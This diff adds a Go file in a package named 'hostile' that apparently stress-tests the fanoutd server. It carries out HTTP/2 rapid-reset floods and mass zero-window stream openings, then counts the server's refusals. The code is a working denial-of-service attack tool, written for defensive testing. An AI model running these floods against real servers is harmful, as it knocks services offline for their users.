@@ -1,0 +1,207 @@
+package hostile
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"io"
+	"net"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+	"google.golang.org/protobuf/proto"
+
+	fanoutv1 "github.com/fanoutd/fanoutd/gen/fanout/v1"
+)
+
+// The kinds of attacks that speak HTTP/2 themselves. The connections are those of attack.Size.
+const (
+	resetGRPC     kind = "watches that are reset at once"
+	resetHTTP     kind = "HTTP requests that are reset at once"
+	openSnapshots kind = "watches with a snapshot, opened at once, that cannot be sent"
+	openFromNow   kind = "watches from now on, opened at once, that cannot be sent"
+)
+
+// streamsAtOnce is how many watches a connection opens at once. By default the server accepts
+// 10,000 streams of a connection.
+const streamsAtOnce = 9000
+
+// rawConn is a connection whose HTTP/2 frames the attacker makes.
+type rawConn struct {
+	net.Conn
+	framer *http2.Framer
+	out    *bytes.Buffer // frames that are not sent yet
+	write  sync.Mutex    // held while frames are written
+}
+
+// openRaw opens a connection. The server may send window bytes on each stream.
+func (a *attack) openRaw(ctx context.Context, i int, window uint32) (*rawConn, error) {
+	conn, err := a.from(i).DialContext(ctx, "tcp", a.Address)
+	if err != nil {
+		return nil, err
+	}
+	c := &rawConn{Conn: conn, out: bytes.NewBufferString(http2.ClientPreface)}
+	c.framer = http2.NewFramer(c.out, conn)
+	if err := c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
+		return nil, err
+	}
+	return c, c.flush()
+}
+
+func (c *rawConn) flush() error {
+	_, err := c.out.WriteTo(c.Conn)
+	return err
+}
+
+// block returns the headers of a request.
+func (a *attack) block() []byte {
+	fields := []hpack.HeaderField{
+		{Name: ":method", Value: "POST"},
+		{Name: ":scheme", Value: "http"},
+		{Name: ":path", Value: fanoutv1.FanoutService_Watch_FullMethodName},
+		{Name: ":authority", Value: "localhost"},
+		{Name: "content-type", Value: "application/grpc"},
+		{Name: "te", Value: "trailers"},
+	}
+	if a.Kind == resetHTTP {
+		fields = []hpack.HeaderField{
+			{Name: ":method", Value: "GET"},
+			{Name: ":scheme", Value: "http"},
+			{Name: ":path", Value: "/v1/resources/" + resource + "/objects"},
+			{Name: ":authority", Value: "localhost"},
+		}
+	}
+	var block bytes.Buffer
+	encoder := hpack.NewEncoder(&block)
+	for _, f := range fields {
+		f.Sensitive = true // keep it out of the dynamic table: the block can be sent again
+		if err := encoder.WriteField(f); err != nil {
+			panic(err) // a buffer does not fail
+		}
+	}
+	return block.Bytes()
+}
+
+// reset opens streams and resets each at once. It connects again when the server closes the
+// connection, until ctx ends.
+func (a *attack) reset(ctx context.Context, i int) {
+	const batch = 100 // streams in one write
+	block := a.block()
+	for ctx.Err() == nil {
+		c, err := a.openRaw(ctx, i, 1<<16-1)
+		if err != nil {
+			a.pause(ctx)
+			continue
+		}
+		done := context.AfterFunc(ctx, func() { _ = c.Close() })
+		var reading sync.WaitGroup
+		reading.Go(func() { a.readCalm(c) })
+		for id := uint32(1); err == nil; {
+			for range batch {
+				err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: a.Kind == resetHTTP})
+				if err == nil {
+					err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
+				}
+				id += 2
+			}
+			if err == nil {
+				err = c.flush()
+			}
+			a.begun.Add(batch)
+		}
+		_ = c.Close()
+		reading.Wait()
+		done()
+	}
+}
+
+// pause waits a moment before the next attempt to connect.
+func (a *attack) pause(ctx context.Context) {
+	timer := time.NewTimer(time.Millisecond)
+	defer timer.Stop()
+	select {
+	case <-timer.C:
+	case <-ctx.Done():
+	}
+}
+
+// readCalm reads until the connection ends, and counts a GOAWAY frame with ENHANCE_YOUR_CALM
+// as a refusal.
+func (a *attack) readCalm(c *rawConn) {
+	reader := http2.NewFramer(io.Discard, c.Conn)
+	for {
+		frame, err := reader.ReadFrame()
+		if err != nil {
+			return
+		}
+		if bye, ok := frame.(*http2.GoAwayFrame); ok && bye.ErrCode == http2.ErrCodeEnhanceYourCalm {
+			a.refused.Add(1)
+		}
+	}
+}
+
+// openAtOnce opens watches over one connection as fast as it can, on streams on which the
+// server may send nothing but headers. It holds them until ctx ends. A watch that the server
+// ends is a refusal.
+func (a *attack) openAtOnce(ctx context.Context, i int) {
+	c, err := a.openRaw(ctx, i, 0)
+	if err != nil {
+		return
+	}
+	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
+	defer stop()
+	var writing sync.WaitGroup
+	defer writing.Wait()
+	writing.Go(func() {
+		block, body := a.block(), a.watchRequest()
+		var err error
+		for n := uint32(0); n < streamsAtOnce && err == nil; n++ {
+			c.write.Lock()
+			err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: block, EndHeaders: true})
+			if err == nil {
+				err = c.framer.WriteData(2*n+1, true, body)
+			}
+			if err == nil {
+				err = c.flush()
+			}
+			c.write.Unlock()
+			a.begun.Add(1)
+		}
+	})
+	reader := http2.NewFramer(io.Discard, c.Conn)
+	for {
+		frame, err := reader.ReadFrame()
+		if err != nil {
+			return
+		}
+		switch f := frame.(type) {
+		case *http2.HeadersFrame:
+			if f.StreamEnded() {
+				a.refused.Add(1)
+			}
+		case *http2.PingFrame:
+			c.write.Lock()
+			if !f.IsAck() && c.framer.WritePing(true, f.Data) == nil {
+				_ = c.flush() // the next read fails, too
+			}
+			c.write.Unlock()
+		}
+	}
+}
+
+// watchRequest returns a request as gRPC sends it. The watch is not concerned with what the
+// well-behaved client writes: deliveries have their own cost.
+func (a *attack) watchRequest() []byte {
+	req := &fanoutv1.WatchRequest{Resource: resource, Scope: &fanoutv1.Scope{Scope: &fanoutv1.Scope_Prefix{Prefix: "large"}}}
+	if a.Kind == openFromNow {
+		req.Begin = &fanoutv1.WatchRequest_FromNow{FromNow: &fanoutv1.FromNow{}}
+	}
+	body, err := proto.Marshal(req)
+	if err != nil {
+		panic(err) // the request is valid
+	}
+	const notCompressed = 0
+	return append(binary.BigEndian.AppendUint32([]byte{notCompressed}, uint32(len(body))), body...)
+}
